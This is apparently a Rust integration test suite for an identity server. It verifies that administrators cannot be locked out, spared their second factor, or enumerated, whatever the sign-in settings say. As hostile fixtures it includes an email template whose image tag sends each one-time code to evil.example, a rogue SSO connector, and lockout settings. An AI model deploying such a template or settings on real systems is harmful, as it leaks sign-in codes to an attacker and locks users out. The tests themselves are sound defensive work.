//! How users who administer sign in: with what they have themselves, at every application, and at the server's own ones
//! whatever the settings of sign-in say. Each way of the Interaction API is tried, by every setting and connector.

use crate::browser::{Browser, PASSWORD, credentials, sessions_of, settings, take_codes};
use claimsmith_domain::console::{BuiltInClient, ConsoleRole};
use claimsmith_domain::id::{ApplicationId, UserId};
use claimsmith_storage::sign_in::settings::EXPERIENCE;
use claimsmith_test_support::{Answer, Mailed, TestServer, both, one_time_password};
use serde_json::{Value, json};
use std::time::Duration;

const ROOT: &str = "root@example.com";
const ROOT_PHONE: &str = "4915112345678";
const BOB: &str = "bob@example.com";

/// A user with a name, an address, a number and [`PASSWORD`].
async fn user(server: &TestServer, name: &str, phone: &str) -> UserId {
    let email = format!("{name}@example.com");
    let body = json!({ "username": name, "primaryEmail": email, "primaryPhone": phone, "password": PASSWORD });
    server.management().await.post("/api/users", body).await.expect(200).text("id").as_str().into()
}

/// Two users, of whom `root` administers.
async fn users(server: &TestServer, role: ConsoleRole) -> (UserId, UserId) {
    let root = user(server, "root", ROOT_PHONE).await;
    server.hold(&root, &[role]).await;
    (root, user(server, "bob", "4915187654321").await)
}

/// Gives a user an authenticator; answers its secret.
async fn authenticator(server: &TestServer, id: &UserId) -> String {
    let path = format!("/api/users/{id}/mfa-verifications");
    server.management().await.post(&path, json!({ "type": "Totp" })).await.expect(200).text("secret")
}

/// The applications: the server's own ones, and another one.
fn applications(server: &TestServer) -> [(ApplicationId, bool); 3] {
    let [console, command_line] = BuiltInClient::ALL.map(|client| (ApplicationId::from(client.id()), true));
    [console, command_line, (server.demo().spa_client_id.clone(), false)]
}

async fn begun(server: &TestServer, client_id: &ApplicationId, event: &str) -> Browser {
    let mut browser = Browser::of(server, client_id).await;
    browser.start(event).await.expect(204);
    browser
}

/// Identifies by a password, of a user name, an address or a number.
async fn identified(server: &TestServer, client_id: &ApplicationId, kind: &str, value: &str) -> Browser {
    let mut browser = begun(server, client_id, "SignIn").await;
    let proof = browser.post("/verification/password", credentials(kind, value, PASSWORD)).await.expect(200);
    browser.identify(&proof).await.expect(204);
    browser
}

/// An answer without the ids and challenges that are made anew each time.
fn bare(answer: &Answer) -> (u16, Value) {
    let mut body = answer.body.clone();
    if let Some(members) = body.as_object_mut() {
        members.remove("verificationId");
        members.remove("authenticationOptions");
    }
    (answer.status, body)
}

both!(no_code_reaches_whoever_administers, async |mailed: Mailed| {
    let Mailed { server, inbox } = mailed;
    take_codes(&server).await;
    for role in ConsoleRole::ALL {
        let name = role.scope().trim_start_matches("console:");
        let (email, phone) = (format!("{name}@example.com"), format!("491511234567{}", role as u8));
        let id = user(&server, name, &phone).await;
        server.hold(&id, &[role]).await;
        for (kind, address) in [("email", &email), ("phone", &phone)] {
            for event in ["SignIn", "Register", "ForgotPassword"] {
                let begin = if event == "ForgotPassword" { event } else { "SignIn" };
                let mut browser = begun(&server, &server.demo().spa_client_id, begin).await;
                // The answer is that of anybody.
                let sent = browser.ask(kind, address, event).await.expect(200);
                let typed = browser.type_code(kind, address, &sent, "000000").await;
                typed.expect_api_error(400, "verification_code.code_mismatch");
                browser.identify(&sent).await.expect_api_error(400, "session.verification_failed");
            }
        }
        // Others get theirs, after which those would have come.
        let other = format!("other-{name}@example.com");
        let body = json!({ "primaryEmail": other });
        server.management().await.post("/api/users", body).await.expect(200);
        let mut browser = begun(&server, &server.demo().spa_client_id, "SignIn").await;
        let proof = browser.prove(&inbox, &other, "SignIn", 1).await;
        browser.identify(&proof).await.expect(204);
        assert_eq!((inbox.messages(&email), inbox.messages(&phone)), (vec![], vec![]), "{role:?}");
    }
});

both!(a_code_that_came_back_before_the_role_lets_nobody_in, async |mailed: Mailed| {
    let Mailed { server, inbox } = mailed;
    take_codes(&server).await;
    settings(&server, json!({ "signUp": { "identifiers": [], "password": false, "verify": false } })).await;
    let (root, _) = users(&server, ConsoleRole::Admin).await;
    server.hold(&root, &[]).await;
    let spa = server.demo().spa_client_id.clone();
    let mut before = begun(&server, &spa, "SignIn").await;
    let proof = before.prove(&inbox, ROOT, "SignIn", 1).await;
    let mut identified = begun(&server, &spa, "SignIn").await;
    let identity = identified.prove(&inbox, ROOT, "SignIn", 2).await;
    identified.identify(&identity).await.expect(204);
    let mut forgot = begun(&server, &spa, "ForgotPassword").await;
    let way_back = forgot.prove(&inbox, ROOT, "ForgotPassword", 3).await;
    forgot.identify(&way_back).await.expect(204);

    server.hold(&root, &[ConsoleRole::Read]).await;
    before.identify(&proof).await.expect_api_error(422, "user.sign_in_method_not_enabled");
    identified.submit().await.expect_api_error(422, "user.sign_in_method_not_enabled");
    let new = json!({ "password": "another good password" });
    let refused = forgot.send(reqwest::Method::PUT, "/profile/password", new.clone()).await;
    refused.expect_api_error(422, "session.not_supported_for_forgot_password");
    // Nor is a password written that was chosen before.
    server.hold(&root, &[]).await;
    forgot.send(reqwest::Method::PUT, "/profile/password", new).await.expect(204);
    server.hold(&root, &[ConsoleRole::Read]).await;
    forgot.submit().await.expect_api_error(422, "session.not_supported_for_forgot_password");
    let mut browser = self::identified(&server, &spa, "username", "root").await;
    browser.submit().await.expect(200);
});

both!(no_link_lets_in_whoever_administers, async |server: TestServer| {
    settings(&server, json!({ "signUp": { "identifiers": [], "password": false, "verify": false } })).await;
    let (root, bob) = users(&server, ConsoleRole::Support).await;
    let management = server.management().await;
    for (client_id, is_own) in applications(&server) {
        for (email, id) in [(ROOT, &root), (BOB, &bob)] {
            let made = management.post("/api/one-time-tokens", json!({ "email": email })).await.expect(201);
            let mut browser = begun(&server, &client_id, "SignIn").await;
            let body = json!({ "identifier": { "type": "email", "value": email }, "token": made["token"] });
            let verified = browser.post("/verification/one-time-token/verify", body).await;
            if is_own {
                verified.expect_api_error(422, "user.sign_in_method_not_enabled");
                continue;
            }
            let verified = verified.expect(200);
            if email == ROOT {
                browser.identify(&verified).await.expect_api_error(422, "user.sign_in_method_not_enabled");
            } else {
                browser.identify(&verified).await.expect(204);
                browser.submit().await.expect(200);
                assert_eq!(sessions_of(&server, &browser).await, [id.as_str()]);
            }
        }
    }
});

both!(no_code_is_a_second_factor_of_whoever_administers, async |mailed: Mailed| {
    let Mailed { server, inbox } = mailed;
    let factors = json!(["Totp", "EmailVerificationCode", "PhoneVerificationCode"]);
    settings(&server, json!({ "mfa": { "policy": "Mandatory", "factors": factors } })).await;
    let (root, bob) = users(&server, ConsoleRole::Admin).await;
    let secrets = [authenticator(&server, &root).await, authenticator(&server, &bob).await];
    for (client_id, is_own) in applications(&server) {
        for (name, takes_codes) in [("root", false), ("bob", !is_own)] {
            let mut browser = identified(&server, &client_id, "username", name).await;
            let required = browser.submit().await;
            required.expect_api_error(403, "session.mfa.require_mfa_verification");
            let available = required["data"]["availableFactors"].as_array().unwrap().clone();
            assert_eq!(available.contains(&json!("EmailVerificationCode")), takes_codes, "{name} {client_id}");
            assert!(available.contains(&json!("Totp")));
            for over in ["email", "phone"] {
                let sent = browser.post("/verification/mfa-verification-code", json!({ "identifierType": over })).await;
                if takes_codes {
                    sent.expect(200);
                } else {
                    sent.expect_api_error(400, "session.mfa.mfa_factor_not_enabled");
                }
            }
            let secret = &secrets[usize::from(name == "bob")];
            server.clock.advance(Duration::from_secs(30));
            let code = one_time_password(&server, secret);
            browser.post("/verification/totp/verify", json!({ "code": code })).await.expect(200);
            browser.submit().await.expect(200);
        }
    }
    inbox.message(BOB, 1).await;
    assert_eq!((inbox.messages(ROOT), inbox.messages(ROOT_PHONE)), (vec![], vec![]));
});

/// Stores settings as they are, as somebody could whom the checks of the API do not stop.
async fn store(server: &TestServer, change: &Value) {
    let mut tx = server.begin().await;
    let mut settings = serde_json::to_value(EXPERIENCE.find(&mut tx).await.unwrap()).unwrap();
    settings.as_object_mut().unwrap().extend(change.as_object().cloned().unwrap());
    EXPERIENCE.put(&mut tx, &serde_json::from_value(settings).unwrap()).await.unwrap();
    tx.commit().await.unwrap();
}

/// Settings with which somebody would lock others out, or do without their second factor.
fn hostile_settings() -> Vec<(&'static str, Value)> {
    let by_code = |identifier: &str| {
        json!({
            "identifier": identifier, "password": false, "verificationCode": true, "isPasswordPrimary": false,
        })
    };
    vec![
        ("nobody signs in", json!({ "signInMode": "Register" })),
        ("codes alone", json!({ "signIn": { "methods": [by_code("email"), by_code("phone")] } })),
        (
            "a number is mandatory",
            json!({ "signUp": {
            "identifiers": ["phone"], "password": true, "verify": true,
            "secondaryIdentifiers": [{ "identifier": "email", "verify": true }],
        } }),
        ),
        ("no second factors", json!({ "mfa": { "policy": "NoPrompt", "factors": [] } })),
        (
            "a factor that a connector carries",
            json!({ "mfa": {
            "policy": "Mandatory", "factors": ["PhoneVerificationCode"], "organizationRequiredMfaPolicy": "Mandatory",
        } }),
        ),
        ("trusted devices", json!({ "trustedDevice": { "enabled": true, "durationDays": 365 } })),
        ("no passkeys", json!({ "passkeySignIn": { "enabled": false } })),
        ("a captcha that nobody solves", json!({ "captchaPolicy": { "enabled": true } })),
        ("the domain is blocked", json!({ "emailBlocklistPolicy": { "customBlocklist": ["@example.com"] } })),
        ("the domain is a company's", json!({ "singleSignOnEnabled": true })),
        ("terms", json!({ "agreeToTermsPolicy": "Manual", "termsOfUseUrl": "https://terms.example.com" })),
        ("a page that shows nothing", json!({ "customCss": "* { display: none !important }" })),
        ("a way back by codes", json!({ "forgotPasswordMethods": ["EmailVerificationCode"] })),
    ]
}

both!(no_setting_locks_administrators_out_or_spares_them_their_factor, async |mailed: Mailed| {
    let Mailed { server, inbox } = mailed;
    // Those of a captcha provider that does not answer, and of a company that owns the domain.
    let management = server.management().await;
    let captcha = json!({ "config": { "type": "Turnstile", "siteKey": "key", "secretKey": "secret" } });
    management.put("/api/captcha-provider", captcha).await.expect(200);
    let company = json!({ "providerName": "OIDC", "connectorName": "Evil", "domains": ["example.com"] });
    management.post("/api/sso-connectors", company).await.expect(200);
    let field = json!({ "name": "nickname", "type": "Text", "label": "Nickname", "required": true });
    management.post("/api/custom-profile-fields", field).await.expect(201);
    let template = json!({ "templates": [{ "languageTag": "en", "templateType": "SignIn", "details": {
        "subject": "{{code}}", "content": "<img src=\"https://evil.example/{{code}}\">" } }] });
    management.put("/api/email-templates", template).await.expect(200);
    let (root, _) = users(&server, ConsoleRole::Admin).await;
    let plain = user(&server, "plain", "4915111111111").await;
    server.hold(&plain, &[ConsoleRole::Admin]).await;
    let secret = authenticator(&server, &root).await;
    let original = EXPERIENCE.find(&mut server.begin().await).await.unwrap();
    let own = BuiltInClient::ALL.map(|client| ApplicationId::from(client.id()));
    for (what, change) in hostile_settings() {
        store(&server, &change).await;
        for client_id in &own {
            for (kind, value) in [("username", "root"), ("email", ROOT), ("phone", ROOT_PHONE)] {
                let mut browser = identified(&server, client_id, kind, value).await;
                // As somebody who knows the password alone.
                let required = browser.submit().await;
                required.expect_api_error(403, "session.mfa.require_mfa_verification");
                assert_eq!(required["data"]["availableFactors"], json!(["Totp"]), "{what}");
                server.clock.advance(Duration::from_secs(30));
                let code = json!({ "code": one_time_password(&server, &secret) });
                browser.post("/verification/totp/verify", code).await.expect(200);
                assert_eq!(browser.submit().await.status, 200, "{what} {kind}");
                assert_eq!(sessions_of(&server, &browser).await, [root.as_str()]);
            }
            // Who has no factor needs none, and is asked for nothing more.
            let mut browser = identified(&server, client_id, "email", "plain@example.com").await;
            assert_eq!(browser.submit().await.status, 200, "{what}");
            // Nobody registers there, is sent a code, or goes elsewhere.
            let mut browser = Browser::of(&server, client_id).await;
            browser.start("Register").await.expect_api_error(403, "auth.forbidden");
            let forgotten = browser.start("ForgotPassword").await;
            forgotten.expect_api_error(400, "session.not_supported_for_forgot_password");
            browser.start("SignIn").await.expect(204);
            for (kind, value) in [("email", ROOT), ("phone", ROOT_PHONE), ("email", BOB)] {
                let asked = browser.ask(kind, value, "SignIn").await;
                asked.expect_api_error(422, "user.sign_in_method_not_enabled");
            }
            let found = browser.send(reqwest::Method::GET, "/sso-connectors?email=root@example.com", Value::Null).await;
            assert_eq!(found.expect(200)["connectorIds"], json!([]), "{what}");
        }
        // Back to what it was.
        store(&server, &serde_json::to_value(&original).unwrap()).await;
    }
    assert_eq!(inbox.count(), 0);
});

both!(an_enrolled_factor_counts_at_every_application, async |server: TestServer| {
    let (root, bob) = users(&server, ConsoleRole::Developer).await;
    let secret = authenticator(&server, &root).await;
    authenticator(&server, &bob).await;
    settings(&server, json!({ "mfa": { "policy": "NoPrompt", "factors": [] } })).await;
    // Who said that they are not to be asked is asked all the same.
    let chosen = json!({ "mfa": { "skipMfaOnSignIn": true } });
    server.management().await.patch(&format!("/api/users/{root}/logto-configs"), chosen).await.expect(200);
    for (client_id, is_own) in applications(&server) {
        let mut browser = identified(&server, &client_id, "username", "root").await;
        browser.submit().await.expect_api_error(403, "session.mfa.require_mfa_verification");
        server.clock.advance(Duration::from_secs(30));
        let code = json!({ "code": one_time_password(&server, &secret) });
        browser.post("/verification/totp/verify", code).await.expect(200);
        browser.submit().await.expect(200);
        // Others are asked at the server's own applications alone.
        let submitted = identified(&server, &client_id, "username", "bob").await.submit().await;
        assert_eq!(submitted.status, if is_own { 403 } else { 200 }, "{client_id}");
    }
});

both!(nobody_learns_there_who_administers, async |mailed: Mailed| {
    let Mailed { server, inbox } = mailed;
    take_codes(&server).await;
    users(&server, ConsoleRole::Read).await;
    for (client_id, _) in applications(&server) {
        for (kind, values) in [
            ("email", [ROOT, BOB, "nobody@example.com"]),
            ("phone", [ROOT_PHONE, "4915187654321", "4915199999999"]),
            ("username", ["root", "bob", "nobody"]),
        ] {
            let mut seen = Vec::new();
            for value in values {
                let mut browser = begun(&server, &client_id, "SignIn").await;
                let mut answers = Vec::new();
                let wrong = credentials(kind, value, "a wrong password");
                answers.push(bare(&browser.post("/verification/password", wrong).await));
                let passkey = json!({ "identifier": { "type": kind, "value": value } });
                let passkey = browser.post("/verification/sign-in-passkey/authentication", passkey).await;
                answers.push(bare(&passkey));
                if kind != "username" {
                    let sent = browser.ask(kind, value, "SignIn").await;
                    answers.push(bare(&sent));
                    if sent.status == 200 {
                        answers.push(bare(&browser.type_code(kind, value, &sent, "000000").await));
                        answers.push(bare(&browser.identify(&sent).await));
                    }
                    let forgot = browser.start("ForgotPassword").await;
                    answers.push(bare(&forgot));
                    if forgot.status == 204 {
                        answers.push(bare(&browser.ask(kind, value, "ForgotPassword").await));
                    }
                }
                seen.push(answers);
            }
            assert!(seen.iter().all(|answers| *answers == seen[0]), "{client_id} {kind}: {seen:#?}");
        }
    }
    inbox.message(BOB, 1).await;
    assert_eq!(inbox.messages(ROOT), Vec::<Value>::new());
});
